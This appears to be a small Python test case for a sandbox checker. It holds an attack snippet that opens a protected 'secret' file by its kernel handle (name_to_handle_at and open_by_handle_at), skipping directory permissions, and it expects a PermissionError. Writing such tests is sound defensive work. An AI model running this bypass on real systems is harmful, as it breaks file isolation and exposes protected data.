"""Open a file by its kernel handle, which ignores folders."""

from __future__ import annotations

ATTACK = """
def attack(v):
    handle = ctypes.create_string_buffer(struct.pack('<Ii', 128, 0), 136)
    mount = ctypes.c_int()
    call('name_to_handle_at', -100, v['secret'].encode(), handle, ctypes.byref(mount), 0)
    root = os.open('/', os.O_RDONLY)
    found = libc.open_by_handle_at(root, handle, 0)
    if found < 0:
        raise OSError(ctypes.get_errno(), 'open_by_handle_at')
    return os.read(found, 100)
"""
DENIED = "PermissionError"
HARM = "read"
ROOT = True
